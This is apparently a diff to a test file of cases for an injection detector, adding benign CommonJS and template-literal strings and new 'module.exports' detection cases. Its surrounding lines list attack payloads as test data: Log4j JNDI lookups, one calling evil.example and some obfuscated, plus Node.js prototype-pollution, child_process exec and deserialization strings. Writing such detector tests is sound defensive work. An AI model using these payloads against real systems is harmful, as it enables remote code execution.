@@ -38,7 +38,9 @@ CASES: tuple[Case, ...] = (
     Case(
         "Log4JRCE",
         ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:rmi://x/a}"),
-        ("${HOME} is set", "price: $ {100}", "jndi is a Java API"),
+        ("${HOME} is set", "price: $ {100}", "jndi is a Java API",
+         # a JavaScript template literal nested in another's expression
+         "msg = `Logged in${opts.scope ? ` to scope ${opts.scope}` : ''} on ${reg}.`"),
     ),
     Case(
         "TemplateInjection",
@@ -77,6 +79,8 @@ CASES: tuple[Case, ...] = (
     Case(
         "NodeJSInjection",
         (
+            "module.exports=",
+            "module.exports={}",
             '{"__proto__": {"isAdmin": true}}',
             "require('child_process').exec('id')",
             "_$$ND_FUNC$$_function(){}()",
@@ -120,6 +124,9 @@ CASES: tuple[Case, ...] = (
             "The process.env variables are read at start-up",
             "Why does console.log(obj) print undefined?",
             "call the apply team",
+            # CommonJS: every module file assigns its exports on a line of its own
+            "const x = require('./x.js');\nmodule.exports = x;\n",
+            "}\nmodule.exports = { explainNode, printNode }",
         ),
     ),
     Case(
